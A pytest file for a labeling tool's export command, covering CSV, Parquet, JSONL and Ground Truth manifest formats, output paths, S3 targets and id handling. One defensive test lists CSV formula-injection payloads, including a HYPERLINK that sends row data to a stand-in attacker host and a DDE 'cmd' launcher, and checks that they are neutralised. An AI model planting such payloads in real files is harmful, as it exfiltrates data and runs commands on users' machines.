"""``crowdloop export``: labels with their source, confidence, judgments and the pool's columns,
as CSV, Parquet, JSON Lines or a SageMaker Ground Truth output manifest."""

from __future__ import annotations

import io
import json
import os
import subprocess
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from crowdloop import engine, keys
from crowdloop.config import parse_config
from crowdloop.engine import Project
from crowdloop.errors import CrowdloopError
from crowdloop.export import export_labels, export_target, write_export
from tests.conftest import crowdloop_cmd
from tests.crowd_helpers import blind_config, register_keyed_crowd, write_blind_digits


@pytest.fixture(scope="module")
def seeded(tmp_path_factory) -> tuple[Project, dict]:
    """Blind digits with 60 seed labels and two paid rounds."""
    data = write_blind_digits(tmp_path_factory.mktemp("blind"))
    cfg = blind_config(data, **{"pool.path": str(data["seeded"]), "pool.seed_labels": {"column": "old_label"},
                                "stopping.max_rounds": 2, "evaluation": {"method": "random", "max_items": 30}})
    p = engine.run_in_process(Project.prepare(parse_config(cfg), str(tmp_path_factory.mktemp("p") / "p")))
    return p, data


def test_table_formats_carry_source_confidence_judgments_and_the_pool_columns(seeded):
    p, data = seeded
    frames = {fmt: export_labels(p, fmt) for fmt in ("csv", "parquet", "jsonl")}
    csv = pd.read_csv(io.BytesIO(frames["csv"].data), dtype={"item_id": str, "label": str})
    parquet = pd.read_parquet(io.BytesIO(frames["parquet"].data))
    lines = [json.loads(line) for line in frames["jsonl"].data.splitlines()]
    assert len(csv) == len(parquet) == len(lines) == frames["csv"].n_rows
    assert list(csv.columns[:5]) == ["item_id", "label", "source", "confidence", "n_judgments"]
    assert {"px0", "px63", "old_label"} <= set(csv.columns)  # the pool file's own columns
    by_source = csv.groupby("source").size().to_dict()
    assert by_source == {"imported": 60, "human": 40 + 30}  # two rounds of 20, the 30 audit items
    human = csv[csv.source == "human"]
    audit = human.item_id.isin(set(p.audit_reserve))
    # audit items: 5 judgments (evaluation.reask_below is off by default: no item is asked again)
    assert audit.sum() == 30 and (human[audit].n_judgments == 5).all() and (human[~audit].n_judgments == 3).all()
    assert human.confidence.between(0, 1).all()
    assert (csv[csv.source == "imported"].n_judgments == 0).all()
    truth = data["truth"]
    assert np.mean([truth[i] == lab for i, lab in zip(human.item_id, human.label, strict=True)]) > 0.9
    assert list(parquet.item_id) == list(csv.item_id) and [r["item_id"] for r in lines] == list(csv.item_id)
    assert frames["csv"].finished_round == 1


def test_machine_labels_cover_every_other_pool_item(seeded):
    p, _ = seeded
    done = export_labels(p, "csv", machine=True)
    frame = pd.read_csv(io.BytesIO(done.data), dtype={"item_id": str})
    assert len(frame) == len(p.pool) and set(frame.item_id) == set(p.pool.ids.tolist())
    machine = frame[frame.source == "machine"]
    assert len(machine) == len(p.pool) - 130 and (machine.n_judgments == 0).all()


def test_gt_manifest_follows_ground_truth_and_reimports_as_seed_labels(seeded, tmp_path):
    p, data = seeded
    rows = [json.loads(line) for line in export_labels(p, "gt-manifest").data.splitlines()]
    attribute = p.config.project
    first = rows[0]
    assert isinstance(first[attribute], int) and first["source"] == first["item-id"]
    meta = first[f"{attribute}-metadata"]
    assert set(meta) == {"class-name", "confidence", "type", "job-name", "human-annotated", "creation-date"}
    assert meta["type"] == "crowdloop/tabular-classification" and meta["job-name"] == f"labeling-job/{attribute}"
    assert p.classes[first[attribute]] == meta["class-name"]
    assert {r["crowdloop-source"] for r in rows} == {"imported", "human"}
    out = tmp_path / "labels.manifest"
    write_export(p, str(out), "gt-manifest")
    again = Project.prepare(parse_config(blind_config(data, project="again", **{"pool.seed_labels": {"path": str(out)}})),
                            str(tmp_path / "again"))
    assert {s.item_id: s.label for s in again.seed_labels} == {r["item-id"]: r[f"{attribute}-metadata"]["class-name"]
                                                               for r in rows}


def test_gt_manifest_task_type_and_source_by_pool_kind(tmp_path):
    """Texts go in ``source``, image files in ``source-ref``, each with its Ground Truth task type."""
    register_keyed_crowd()
    png = b"\x89PNG\r\n\x1a\n"
    rows = []
    for i in range(40):
        (tmp_path / f"img{i}.png").write_bytes(png + bytes([i]))  # each its own file: identical bytes are copies
        rows.append({"id": f"x{i}", "text": f"text {i}", "img": f"img{i}.png", "f": float(i % 2) + i / 100})
    pd.DataFrame(rows).to_csv(tmp_path / "pool.csv", index=False)
    pd.DataFrame({"id": [r["id"] for r in rows], "label": [["a", "b"][i % 2] for i in range(40)]}).to_csv(
        tmp_path / "key.csv", index=False)
    for kind, column, expected_type, key in (("text", "text_column", "groundtruth/text-classification", "source"),
                                             ("image", "image_column", "groundtruth/image-classification", "source-ref")):
        cfg = {"project": f"kinds-{kind}", "seed": 1,
               "pool": {"source": "csv", "path": str(tmp_path / "pool.csv"), "id_column": "id", "classes": ["a", "b"],
                        column: "text" if kind == "text" else "img", "feature_columns": ["f"]},
               "sampler": {"batch_size": 6, "initial_size": 6},
               "vendor": {"name": "keyed_crowd", "params": {"answer_key": str(tmp_path / "key.csv"), "n_workers": 5,
                                                            "accuracy": [0.95, 1.0], "spammer_fraction": 0.0}},
               "consensus": {"redundancy": 3}, "stopping": {"max_rounds": 1}}
        p = engine.run_in_process(Project.prepare(parse_config(cfg), str(tmp_path / kind)))
        lines = [json.loads(line) for line in export_labels(p, "gt-manifest").data.splitlines()]
        assert len(lines) == 6
        for line in lines:
            meta = line[f"kinds-{kind}-metadata"]
            assert meta["type"] == expected_type
            i = int(line["item-id"][1:])
            assert line[key] == (f"text {i}" if kind == "text" else str((tmp_path / f"img{i}.png").resolve()))


def test_a_running_project_exports_its_last_finished_round(blind_digits_running):
    p = blind_digits_running
    assert p.has(2, keys.LABELS) and not p.has(2, keys.PAY)  # round 2 aggregated, not paid
    done = export_labels(p, "jsonl")
    exported = {json.loads(line)["item_id"] for line in done.data.splitlines()}
    assert done.finished_round == 1
    assert exported == {label.item_id for label in p.round_labels(1, keys.LABELS)}
    assert exported < {label.item_id for label in p.round_labels(2, keys.LABELS)}


@pytest.fixture
def blind_digits_running(tmp_path) -> Project:
    data = write_blind_digits(tmp_path)
    p = Project.prepare(parse_config(blind_config(data, **{"stopping.max_rounds": 5})), str(tmp_path / "p"))
    for r in (0, 1):
        engine.run_round(p, r)
    engine.run_round(p, 2, until="aggregate")
    return p


def test_write_is_atomic_and_the_cli_names_what_it_wrote(seeded, tmp_path):
    p, _ = seeded
    out = tmp_path / "out" / "labels.csv"
    out.parent.mkdir()
    out.write_text("old content that must vanish whole\n")
    write_export(p, str(out), "csv")
    assert out.read_text().startswith("item_id,label,source,confidence,n_judgments")
    assert os.listdir(out.parent) == ["labels.csv"]  # no temporary file left behind
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    target = tmp_path / "cli.parquet"
    result = subprocess.run([*crowdloop_cmd(), "export", p.store.url, "--format", "parquet", "--out", str(target)],
                            capture_output=True, text=True, env=env, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "wrote 130 labels (70 human, 60 imported) as of round 1" in " ".join(result.stdout.split())
    assert len(pd.read_parquet(target)) == 130
    bad = subprocess.run([*crowdloop_cmd(), "export", p.store.url, "--format", "xlsx"], capture_output=True, text=True,
                         env=env, timeout=120)
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1
    assert "expected one of csv, parquet, jsonl, gt-manifest" in bad.stderr


def test_default_output_is_named_after_the_project(seeded, tmp_path):
    p, _ = seeded
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    result = subprocess.run([*crowdloop_cmd(), "export", str(Path(p.store.url).resolve()), "--format", "gt-manifest"],
                            capture_output=True, text=True, env=env, timeout=120, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "blind-labels.manifest").stat().st_size > 0


def test_a_folder_gets_the_default_name_inside_it_and_the_message_names_the_file(seeded, tmp_path):
    """``--out /some/folder`` once wrote a file named after the folder into the working directory
    (``/tmp`` became ``./tmp``) and said it wrote to the folder."""
    p, _ = seeded
    folder, elsewhere = tmp_path / "exports", tmp_path / "cwd"
    folder.mkdir()
    elsewhere.mkdir()
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    result = subprocess.run([*crowdloop_cmd(), "export", p.store.url, "--out", str(folder)],
                            capture_output=True, text=True, env=env, timeout=120, cwd=elsewhere)
    assert result.returncode == 0, result.stderr
    written = folder / "blind-labels.csv"
    assert str(written) in "".join(result.stdout.split())
    assert len(pd.read_csv(written)) == 130
    assert os.listdir(elsewhere) == []
    # a path ending in '/' is a folder too, made if missing; an absolute file path stays absolute
    _, target = write_export(p, str(tmp_path / "new") + "/", "jsonl")
    assert target == str(tmp_path / "new" / "blind-labels.jsonl") and Path(target).stat().st_size > 0
    _, target = write_export(p, str(tmp_path / "one.csv"), "csv")
    assert target == str(tmp_path / "one.csv")


def test_store_urls_name_a_file_or_a_prefix(seeded):
    p, _ = seeded
    assert export_target(p, "s3://bucket/runs/", "csv") == "s3://bucket/runs/blind-labels.csv"
    assert export_target(p, "s3://bucket/l.csv?endpoint_url=http://127.0.0.1:9", "csv") == \
        "s3://bucket/l.csv?endpoint_url=http://127.0.0.1:9"
    assert export_target(p, "s3://bucket/?endpoint_url=http://h:9", "csv") == "s3://bucket/blind-labels.csv?endpoint_url=http://h:9"
    with pytest.raises(CrowdloopError, match=r"^--out 's3://bucket': expected a file name after the bucket"):
        export_target(p, "s3://bucket", "csv")


def test_export_to_an_s3_key_or_prefix_on_a_real_local_s3_server(seeded, s3_endpoint, s3_bucket):
    import boto3

    p, _ = seeded
    _, target = write_export(p, f"s3://{s3_bucket}/out/labels.csv?endpoint_url={s3_endpoint}", "csv")
    assert target == f"s3://{s3_bucket}/out/labels.csv?endpoint_url={s3_endpoint}"
    _, target = write_export(p, f"s3://{s3_bucket}/runs/?endpoint_url={s3_endpoint}", "jsonl")
    assert target == f"s3://{s3_bucket}/runs/blind-labels.jsonl?endpoint_url={s3_endpoint}"
    s3 = boto3.client("s3", endpoint_url=s3_endpoint)
    keys = sorted(o["Key"] for o in s3.list_objects_v2(Bucket=s3_bucket)["Contents"])
    assert keys == ["out/labels.csv", "runs/blind-labels.jsonl"]
    body = s3.get_object(Bucket=s3_bucket, Key="out/labels.csv")["Body"].read()
    assert len(pd.read_csv(io.BytesIO(body))) == 130


def test_ids_are_kept_as_written_through_pool_seed_labels_and_export(tmp_path):
    """Ids were read as numbers when a column held only digits: '007' became '7' in the export, so
    the labels no longer joined with the team's own records."""
    register_keyed_crowd()
    ids = [f"{i:05d}" for i in range(40)]
    labels = [["a", "b"][i % 2] for i in range(40)]
    pd.DataFrame({"case": ids, "f": [float(i % 2) + i / 100 for i in range(40)]}).to_csv(tmp_path / "pool.csv",
                                                                                           index=False)
    pd.DataFrame({"id": ids, "label": labels}).to_csv(tmp_path / "key.csv", index=False)
    pd.DataFrame({"id": ids[:4], "label": labels[:4]}).to_csv(tmp_path / "seed.csv", index=False)
    cfg = {"project": "zeros", "seed": 1,
           "pool": {"source": "csv", "path": str(tmp_path / "pool.csv"), "id_column": "case", "classes": ["a", "b"],
                    "seed_labels": {"path": str(tmp_path / "seed.csv")}},
           "sampler": {"batch_size": 6, "initial_size": 6},
           "vendor": {"name": "keyed_crowd", "params": {"answer_key": str(tmp_path / "key.csv"), "n_workers": 5,
                                                        "accuracy": [1.0, 1.0], "spammer_fraction": 0.0}},
           "consensus": {"redundancy": 3}, "stopping": {"max_rounds": 1}}
    p = engine.run_in_process(Project.prepare(parse_config(cfg), str(tmp_path / "p")))
    assert p.pool.ids.tolist() == ids
    exported = pd.read_csv(io.BytesIO(export_labels(p, "csv").data), dtype={"item_id": str})
    assert set(exported["item_id"]) <= set(ids) and len(exported) == 10
    assert set(exported.loc[exported["source"] == "imported", "item_id"]) == set(ids[:4])
    assert all(label == labels[ids.index(item)] for item, label in zip(exported["item_id"], exported["label"],
                                                                         strict=True))
    # The pool file moved away: the labels bought are still exported, without the pool's columns.
    from typer.testing import CliRunner

    from crowdloop.cli import app

    (tmp_path / "pool.csv").rename(tmp_path / "moved.csv")
    result = CliRunner().invoke(app, ["export", str(tmp_path / "p"), "--out", str(tmp_path / "out.csv")])
    assert result.exit_code == 0, result.output
    assert "note: without the pool's columns, ordered by item id: pool.path: file" in " ".join(result.output.split())
    alone = pd.read_csv(tmp_path / "out.csv", dtype={"item_id": str})
    assert list(alone.columns) == ["item_id", "label", "source", "confidence", "n_judgments"]
    assert alone["item_id"].tolist() == sorted(exported["item_id"])
    assert dict(zip(alone["item_id"], alone["label"], strict=True)) == dict(
        zip(exported["item_id"], exported["label"], strict=True))
    for extra in (["--format", "gt-manifest"], ["--machine"]):
        result = CliRunner().invoke(app, ["export", str(tmp_path / "p"), "--out", str(tmp_path / "x"), *extra])
        assert result.exit_code == 2 and "needs the pool: restore it there, or export csv, parquet or jsonl" in \
            " ".join(result.output.split())


def test_spreadsheet_safe_csv_shows_formula_text_as_text(tmp_path):
    """A pool text '=HYPERLINK("http://...?"&A2,"x")' opened from the CSV in a spreadsheet runs as a
    formula (and can send the row away); --spreadsheet-safe prefixes such cells with '."""
    from typer.testing import CliRunner

    from crowdloop.cli import app

    register_keyed_crowd()
    hostile = ['=HYPERLINK("http://evil.example/?"&A2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\tleading tab", "a plain review", "don't = worry"]
    texts = [hostile[i % len(hostile)] for i in range(42)]
    pd.DataFrame({"id": [f"t{i}" for i in range(42)], "text": texts, "f": [float(i % 2) for i in range(42)]}).to_csv(
        tmp_path / "pool.csv", index=False)
    pd.DataFrame({"id": [f"t{i}" for i in range(42)], "label": [["a", "b"][i % 2] for i in range(42)]}).to_csv(
        tmp_path / "key.csv", index=False)
    cfg = {"project": "formulas", "seed": 1,
           "pool": {"source": "csv", "path": str(tmp_path / "pool.csv"), "id_column": "id", "classes": ["a", "b"],
                    "text_column": "text", "feature_columns": ["f"], "duplicates": "ask_each"},  # 7 texts, 42 items
           "sampler": {"batch_size": 14, "initial_size": 14},
           "vendor": {"name": "keyed_crowd", "params": {"answer_key": str(tmp_path / "key.csv"), "n_workers": 5,
                                                        "accuracy": [1.0, 1.0], "spammer_fraction": 0.0}},
           "consensus": {"redundancy": 1}, "stopping": {"max_rounds": 1}}
    p = engine.run_in_process(Project.prepare(parse_config(cfg), str(tmp_path / "p")))
    plain = pd.read_csv(io.BytesIO(export_labels(p, "csv").data), keep_default_na=False)
    safe = pd.read_csv(io.BytesIO(export_labels(p, "csv", spreadsheet_safe=True).data), keep_default_na=False)
    assert len(plain) == len(safe) == 14 and set(plain["text"]) <= set(hostile)
    for raw, shown in zip(plain["text"], safe["text"], strict=True):
        assert shown == ("'" + raw if raw[0] in "=+-@\t" else raw)
    assert {"'" + text for text in hostile[:5]} & set(safe["text"])
    assert safe["confidence"].tolist() == plain["confidence"].tolist()  # numbers are not text: untouched
    # a byte-order mark, so Excel reads UTF-8 (without it, accents come out in the code page's letters)
    from crowdloop.export import UTF8_BOM

    assert export_labels(p, "csv", spreadsheet_safe=True).data.startswith(UTF8_BOM)
    assert not export_labels(p, "csv").data.startswith(UTF8_BOM) and list(safe.columns) == list(plain.columns)
    result = CliRunner().invoke(app, ["export", str(tmp_path / "p"), "--format", "jsonl", "--spreadsheet-safe"])
    assert result.exit_code == 2 and "--spreadsheet-safe: for --format csv" in result.output
